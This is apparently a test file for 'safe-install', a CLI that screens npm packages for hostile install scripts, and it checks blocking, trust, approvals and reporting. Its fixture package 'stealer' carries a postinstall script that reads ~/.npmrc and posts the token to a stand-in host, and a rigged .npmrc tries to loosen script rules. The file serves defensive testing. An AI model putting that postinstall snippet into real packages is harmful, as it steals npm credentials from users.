import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync, symlinkSync } from 'node:fs'
import { mkdir, writeFile } from 'node:fs/promises'
import { createHash } from 'node:crypto'
import { dirname, join } from 'node:path'
import t from 'tap'
import { runCli, runOnTerminal } from '../helpers/cli.ts'
import { makeProject, snapshot } from '../helpers/project.ts'
import type { Project } from '../helpers/project.ts'
import { startRegistry } from '../helpers/registry.ts'
import type { Registry } from '../helpers/registry.ts'

const app = { name: 'app', version: '1.0.0' }

function stealer(version: string, more = ''): Readonly<Record<string, string>> {
  return {
    'package.json': JSON.stringify({
      name: 'stealer',
      version,
      repository: 'https://example.test/stealer',
      scripts: { postinstall: 'node setup.js' },
    }),
    'setup.js': [
      "const fs = require('node:fs')",
      "const { homedir } = require('node:os')",
      "const token = fs.readFileSync(homedir() + '/.npmrc', 'utf8')",
      "fetch('https://collect.invalid/', { method: 'POST', body: token })",
      more,
    ].join('\n'),
  }
}

function publishHooked(registry: Registry, marker: string, version = '1.0.0', more = ''): void {
  registry.publish({
    files: {
      'package.json': JSON.stringify({
        name: 'hooked',
        version,
        scripts: { postinstall: 'node build.js' },
      }),
      'build.js': `require('node:fs').appendFileSync(${JSON.stringify(marker)}, 'ran\\n')\n${more}`,
    },
  })
}

function publishPlain(registry: Registry, version = '1.0.0', code = 'module.exports = 1\n'): void {
  registry.publish({
    files: { 'package.json': JSON.stringify({ name: 'plain', version }), 'index.js': code },
  })
}

const userPolicy = async (project: Project, policy: unknown): Promise<void> => {
  const folder = join(project.home, '.config', 'safe-install')
  await mkdir(folder, { recursive: true })
  await writeFile(join(folder, 'safe-install.json'), JSON.stringify(policy))
}

const parse = (text: string): Record<string, any> => JSON.parse(text) // oxlint-disable-line typescript/no-explicit-any

t.test('a hostile clone loosens nothing by its own files', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  const bytes = registry.publish({ files: stealer('1.0.0') })
  const project = await makeProject(t, registry, {
    'package.json': { ...app, dependencies: { stealer: '1.0.0' } },
    'safe-install.json': {
      actions: {
        severity: { low: 'note', medium: 'note', high: 'note', critical: 'note' },
        rules: { 'secret-exfiltration': 'off' },
      },
      contentGaps: 'note',
      history: false,
      exceptions: [
        {
          package: 'stealer',
          version: '1.0.0',
          integrity: bytes.integrity,
          rule: 'secret-exfiltration',
          reason: 'trust me',
          who: 'nobody',
        },
      ],
    },
  })
  await project.write(
    '.npmrc',
    [
      'dangerously-allow-all-scripts=true',
      'script-shell=./evil.sh',
      'ignore-scripts=false',
      'yes=true',
      '@evil:registry=http://127.0.0.1:9/',
      '',
    ].join('\n'),
  )
  await project.write('evil.sh', '#!/bin/sh\n')
  const before = await snapshot(project.path)
  const result = await runCli(project, [])
  t.equal(result.code, 10, result.stdout + result.stderr)
  t.match(result.stdout, /secret-exfiltration/)
  t.match(result.stderr, /ignored script-shell=/)
  t.match(result.stderr, /ignored yes=true/)
  t.match(result.stderr, /ignored dangerously-allow-all-scripts=true/)
  t.match(result.stderr, /@evil:registry=http/)
  t.match(result.stderr, /have\s+not\s+trusted/)
  t.strictSame(await snapshot(project.path), before)
  const digest = createHash('sha256')
    .update(readFileSync(join(project.path, 'safe-install.json')))
    .digest('hex')
  const wrong = await runCli(project, ['--trust-policy', digest.replace(/^./, c => (c === '0' ? '1' : '0'))])
  t.equal(wrong.code, 10, 'another digest trusts nothing')
  t.equal((await runCli(project, ['--trust'])).code, 10, 'nobody could be asked')
  t.strictSame(await snapshot(project.path), before)
  t.equal(
    (await runCli(project, ['--trust-policy', digest])).code,
    0,
    'this very file is trusted for this run',
  )
  t.end()
})

t.test('a trusted file counts until it changes', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  registry.publish({ files: stealer('1.0.0') })
  const project = await makeProject(t, registry, {
    'package.json': app,
    'safe-install.json': { actions: { rules: { 'secret-exfiltration': 'note' } } },
  })
  t.equal((await runCli(project, ['stealer'])).code, 10)
  t.equal((await runCli(project, ['--trust', '--yes'])).code, 0)
  t.equal((await runCli(project, ['stealer'])).code, 0)
  await project.write('safe-install.json', '{"actions":{"rules":{"secret-exfiltration":"off"}}}')
  t.equal((await runCli(project, ['--check'])).code, 10)
  t.end()
})

t.test('--accept lifts a block for exactly these bytes, and until its day', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  registry.publish({ files: stealer('1.0.0') })
  const project = await makeProject(t, registry, { 'package.json': app })
  const accept = ['--accept', 'stealer@1.0.0', '--rule', 'secret-exfiltration', '--reason', 'read it']
  t.equal((await runCli(project, ['stealer'])).code, 10)
  const refused = await runCli(project, [
    '--accept',
    'stealer@1.0.0',
    '--rule',
    'known-malware',
    '--reason',
    'x',
  ])
  t.equal(refused.code, 2)
  const accepted = await runCli(project, [...accept, '--until', '30d'])
  t.equal(accepted.code, 0, accepted.stderr)
  const written = parse(await project.read('safe-install.json'))['exceptions'][0]
  t.match(written, { package: 'stealer', version: '1.0.0', rule: 'secret-exfiltration', reason: 'read it' })
  const result = await runCli(project, ['stealer', '--json'])
  t.equal(result.code, 0, result.stdout + result.stderr)
  t.match(parse(result.stdout)['packages'][0].accepted[0], {
    rule: 'secret-exfiltration',
    was: 'block',
    origin: 'project',
  })
  const shown = await runCli(project, ['--check'])
  t.match(shown.stdout, /Accepted earlier/)
  t.match(shown.stdout, /read it/)
  registry.publish({ files: stealer('1.0.0', '// other bytes') })
  const policy = await project.read('safe-install.json')
  const other = await makeProject(t, registry, { 'package.json': app })
  await other.write('safe-install.json', policy)
  t.equal((await runCli(other, ['--trust', '--yes'])).code, 0)
  t.equal((await runCli(other, ['stealer'])).code, 10, 'other bytes under the same name and version')
  const own = await makeProject(t, registry, { 'package.json': app })
  t.equal((await runCli(own, [...accept, '--until', '2020-01-01'])).code, 0)
  t.equal((await runCli(own, ['stealer'])).code, 10, 'its day is over')
  t.end()
})

t.test('an approval is written as npm reads it, runs once, and is bound to the bytes', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  const project = await makeProject(t, registry, { 'package.json': app })
  const marker = join(project.home, 'marker')
  publishHooked(registry, marker)
  t.equal((await runCli(project, ['hooked'])).code, 0)
  t.notOk(existsSync(marker))
  await project.write(
    'package.json',
    `{\n\t"name": "app",\n\t"version": "1.0.0",\n\t"dependencies": {\n\t\t"hooked": "^1.0.0"\n\t},\n\t"allowScripts": {\n\t\t"hooked": false,\n\t\t"gone@1.0.0": true\n\t}\n}\n`,
  )
  const unasked = await runCli(project, ['--approve', 'hooked@1.0.0'])
  t.equal(unasked.code, 10, 'nobody could be asked')
  t.match(unasked.stdout, /postinstall: node build\.js/)
  const approved = await runCli(project, ['--approve', 'hooked@1.0.0', '--yes'])
  t.equal(approved.code, 0, approved.stdout + approved.stderr)
  t.match(approved.stderr, /gone@1\.0\.0/, 'stale entries are named')
  t.equal(readFileSync(marker, 'utf8'), 'ran\n', 'it was installed, so it runs right away')
  const manifest = await project.read('package.json')
  t.match(
    manifest,
    /\n\t"allowScripts": \{\n\t\t"gone@1\.0\.0": true,\n\t\t"hooked@1\.0\.0": true\n\t\}\n\}\n$/,
  )
  t.equal((await runCli(project, [])).code, 0)
  t.equal(readFileSync(marker, 'utf8'), 'ran\n', 'and only once')
  t.equal((await runCli(project, ['--deny', 'hooked'])).code, 0)
  t.strictSame(parse(await project.read('package.json'))['allowScripts'], {
    'gone@1.0.0': true,
    hooked: false,
  })
})

t.test('an approval does not count for other bytes, whatever is answered', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  const project = await makeProject(t, registry, { 'package.json': app })
  const marker = join(project.home, 'marker')
  publishHooked(registry, marker)
  t.equal((await runCli(project, ['--approve', 'hooked@1.0.0', '--yes'])).code, 0)
  const policy = await project.read('safe-install.json')
  publishHooked(registry, marker, '1.0.0', '// other bytes')
  const clone = await makeProject(t, registry, {
    'package.json': { ...app, dependencies: { hooked: '1.0.0' }, allowScripts: { 'hooked@1.0.0': true } },
  })
  await clone.write('safe-install.json', policy)
  const changed = await runCli(clone, ['--json'])
  t.equal(changed.code, 10)
  t.match(parse(changed.stdout)['packages'][0].findings, [{ rule: 'approved-bytes-changed' }])
  t.equal((await runCli(clone, ['--yes'])).code, 0)
  t.notOk(existsSync(marker))
  t.end()
})

t.test('a new version with the same script is called unchanged, and never renewed by itself', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  const project = await makeProject(t, registry, { 'package.json': app })
  const marker = join(project.home, 'marker')
  publishHooked(registry, marker)
  t.equal((await runCli(project, ['hooked'])).code, 0)
  t.equal((await runCli(project, ['--approve', 'hooked@1.0.0', '--yes'])).code, 0)
  publishHooked(registry, marker, '1.0.1', '// only a comment')
  const same = await runCli(project, ['hooked@1.0.1'])
  t.equal(same.code, 0)
  t.match(same.stdout, /hooked@1\.0\.1: unchanged since 1\.0\.0/)
  t.equal(readFileSync(marker, 'utf8'), 'ran\n')
  publishHooked(registry, marker, '1.0.2', "require('node:child_process').exec('make')")
  const more = await runCli(project, ['hooked@1.0.2'])
  t.equal(more.code, 0, more.stdout)
  t.notMatch(more.stdout, /unchanged since/)
  t.end()
})

t.test('on a terminal approval is offered once after the install, default No', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  for (const [answer, ran] of [
    ['\n', false],
    ['y\n', true],
  ] as const) {
    const project = await makeProject(t, registry, { 'package.json': app })
    const marker = join(project.home, 'marker')
    publishHooked(registry, marker)
    const result = await runOnTerminal(project, ['hooked'], { prompt: /install scripts run\?/, answer })
    t.equal(result.code, 0, result.stdout)
    t.equal(existsSync(marker), ran, JSON.stringify(answer))
    t.equal('allowScripts' in parse(await project.read('package.json')), ran)
  }
  t.end()
})

t.test('--check reads the lockfile, --since only what changed, and writes SARIF', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  publishPlain(registry)
  registry.publish({ files: stealer('1.0.0') })
  const project = await makeProject(t, registry, { 'package.json': app })
  const git = (...args: string[]): unknown =>
    execFileSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@example.test', ...args], {
      cwd: project.path,
    })
  t.equal((await runCli(project, ['plain'])).code, 0)
  const alone = { GIT_CEILING_DIRECTORIES: dirname(project.path) }
  t.equal((await runCli(project, ['--check', '--since', 'HEAD'], { env: alone })).code, 2, 'no repository')
  git('init', '-q')
  git('add', 'package.json', 'package-lock.json')
  git('commit', '-qm', 'one')
  const lock = parse(await project.read('package-lock.json'))
  lock['packages']['node_modules/stealer'] = {
    version: '1.0.0',
    resolved: `${registry.url}stealer/-/stealer-1.0.0.tgz`,
    integrity: registry.publish({ files: stealer('1.0.0') }).integrity,
    hasInstallScript: true,
  }
  lock['packages'][''].dependencies.stealer = '1.0.0'
  await project.write('package-lock.json', JSON.stringify(lock, undefined, 2))
  await project.write(
    'package.json',
    JSON.stringify({ ...app, dependencies: lock['packages'][''].dependencies }),
  )
  const before = await snapshot(project.path)
  const all = parse((await runCli(project, ['--check', '--json'])).stdout)
  t.strictSame(
    all['packages'].map((one: { name: string }) => one.name),
    ['plain', 'stealer'],
  )
  const result = await runCli(project, ['--check', '--since', 'HEAD', '--json', '--sarif', '../out.sarif'])
  t.equal(result.code, 10, result.stderr)
  t.strictSame(
    parse(result.stdout)['packages'].map((one: { name: string }) => one.name),
    ['stealer'],
  )
  t.strictSame(await snapshot(project.path), before, 'nothing is written to the project')
  const [run] = parse(await project.read('../out.sarif'))['runs']
  t.equal(run.results[0].ruleId, 'secret-exfiltration')
  t.match(run.results[0].locations[0].physicalLocation, {
    artifactLocation: { uri: 'package-lock.json' },
    region: {
      startLine:
        (await project.read('package-lock.json'))
          .split('\n')
          .findIndex(line => line.includes('"node_modules/stealer"')) + 1,
    },
  })
  for (const ref of ['no-such-ref', '--output=x', 'HEAD:package.json'])
    t.equal((await runCli(project, ['--check', `--since=${ref}`])).code, 2, ref)
  t.end()
})

t.test('--check --all-platforms reads what this machine would not install', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  registry.publish({
    files: {
      'package.json': JSON.stringify({ name: 'foreign', version: '1.0.0', os: ['aix'] }),
      'x.js': '1\n',
    },
  })
  const project = await makeProject(t, registry, {
    'package.json': { ...app, optionalDependencies: { foreign: '1.0.0' } },
  })
  const names = async (...args: string[]): Promise<unknown> =>
    parse((await runCli(project, ['--check', '--json', ...args])).stdout)['packages'].map(
      (one: { name: string }) => one.name,
    )
  t.strictSame(await names(), [])
  t.strictSame(await names('--all-platforms'), ['foreign'])
  t.end()
})

t.test('--compare says what the second can do more', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  publishPlain(registry)
  publishPlain(registry, '1.0.1', "require('node:child_process').exec('make')\n")
  const project = await makeProject(t, registry, { 'package.json': app })
  const result = await runCli(project, ['--compare', 'plain@1.0.0', 'plain@1.0.1', '--json'])
  t.equal(result.code, 0, result.stderr)
  t.match(parse(result.stdout)['comparison'], {
    from: 'plain@1.0.0',
    to: 'plain@1.0.1',
    incomplete: false,
    abilities: [{ what: 'starts make' }],
  })
  const back = await runCli(project, ['--compare', 'plain@1.0.1', 'plain@1.0.0'])
  t.match(back.stdout, /Nothing that was found/)
  t.end()
})

t.test('--exec runs what it has read, with its words and exit code, and leaves nothing behind', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  registry.publish({
    files: {
      'package.json': JSON.stringify({
        name: 'tool',
        version: '1.0.0',
        bin: { tool: 'cli.js', other: 'cli.js' },
      }),
      'cli.js': '#!/usr/bin/env node\nconsole.log(JSON.stringify(process.argv.slice(2)))\nprocess.exit(7)\n',
    },
  })
  registry.publish({
    files: {
      ...stealer('1.0.0'),
      'package.json': JSON.stringify({
        name: 'stealer',
        version: '1.0.0',
        bin: 'setup.js',
        scripts: { postinstall: 'node setup.js' },
      }),
    },
  })
  const project = await makeProject(t, registry, { 'package.json': app })
  const before = await snapshot(project.path)
  const words = ['a b', '$HOME', "it's", '--flag']
  const result = await runCli(project, ['--exec', 'tool@1.0.0', '--', ...words])
  t.equal(result.code, 7, result.stderr)
  t.strictSame(JSON.parse(result.stdout), words)
  const named = await runCli(project, ['--exec', '--package=tool', 'other', '--', 'x'])
  t.equal(named.code, 7, named.stderr)
  t.equal((await runCli(project, ['--exec', 'stealer'])).code, 10)
  t.strictSame(await snapshot(project.path), before)
  t.strictSame(await snapshot(join(project.cache, '_safe-install', 'exec')), [])
  t.end()
})

t.test('a policy file that cannot be understood stops with exit code 2', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  publishPlain(registry)
  const project = await makeProject(t, registry, { 'package.json': app })
  await userPolicy(project, { registries: ['https://registry.example/'] })
  const foreign = await runCli(project, ['plain'])
  t.equal(foreign.code, 2)
  t.equal(registry.requests.length, 0, 'nothing was asked of a registry that is not allowed')
  await userPolicy(project, { registries: [registry.url], minimumAgeDays: 3650 })
  t.equal((await runCli(project, ['plain'])).code, 10, 'too young')
  await userPolicy(project, { rules: {} })
  const typo = await runCli(project, ['plain'])
  t.equal(typo.code, 2)
  t.match(typo.stderr, /unknown key/)
  await userPolicy(project, {})
  symlinkSync(
    join(project.home, '.config', 'safe-install', 'safe-install.json'),
    join(project.path, 'safe-install.json'),
  )
  t.equal((await runCli(project, ['plain'])).code, 2, 'a link in the project')
  t.end()
})

t.test(
  '--history notes decisions without credentials; --print-config says where settings come from',
  async t => {
    const registry = await startRegistry(t, { maxAge: 0 })
    publishPlain(registry)
    registry.publish({ files: stealer('1.0.0') })
    const project = await makeProject(t, registry, { 'package.json': app })
    t.equal((await runCli(project, ['plain'])).code, 0)
    t.equal((await runCli(project, ['stealer'])).code, 10)
    await runCli(project, [
      `${registry.url.replace('//', '//user:hunter2@')}plain/-/plain-1.0.0.tgz?token=hunter2`,
    ])
    const noted = await runCli(project, ['--history', '--json'])
    t.notMatch(noted.stdout, /hunter2/)
    t.match(parse(noted.stdout)['history'], [
      { verb: 'install', specs: ['plain'], outcome: 'installed' },
      { outcome: 'stopped: block', alarms: ['stealer@1.0.0: secret-exfiltration'] },
    ])
    await userPolicy(project, { history: false })
    await runCli(project, ['plain'])
    t.equal(
      parse((await runCli(project, ['--history', '--json'])).stdout)['history'].length,
      parse(noted.stdout)['history'].length,
    )
    await project.write('.npmrc', 'script-shell=./evil\n')
    const config = parse((await runCli(project, ['--print-config', '--json'])).stdout)
    t.match(
      config['policy'].find((row: { key: string }) => row.key === 'history'),
      { value: 'false', origin: 'user' },
    )
    t.match(config['ignored'], [{ key: 'script-shell', value: './evil' }])
    t.end()
  },
)

t.test('--update-data reads a feed from a file and says its age', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  const project = await makeProject(t, registry, { 'package.json': app })
  publishPlain(registry, '6.6.6')
  const today = new Date().toISOString()
  await writeFile(
    join(project.home, 'feed.json'),
    JSON.stringify([
      {
        id: 'MAL-2026-1',
        modified: today,
        summary: 'Malicious code in plain',
        affected: [{ package: { ecosystem: 'npm', name: 'plain' }, versions: ['6.6.6'] }],
      },
    ]),
  )
  t.equal((await runCli(project, ['plain'])).code, 0)
  const result = await runCli(project, ['--update-data', join(project.home, 'feed.json'), '--json'])
  t.equal(result.code, 0, result.stderr)
  t.match(parse(result.stdout)['updated'], { rows: 1, date: today.slice(0, 10) })
  const stopped = await runCli(project, ['--inspect', 'plain@6.6.6'])
  t.equal(stopped.code, 10)
  t.match(stopped.stdout, /known-malware/)
  const lifted = await runCli(project, [
    '--accept',
    'plain@6.6.6',
    '--rule',
    'known-malware',
    '--reason',
    'x',
  ])
  t.equal(lifted.code, 2)
  t.end()
})
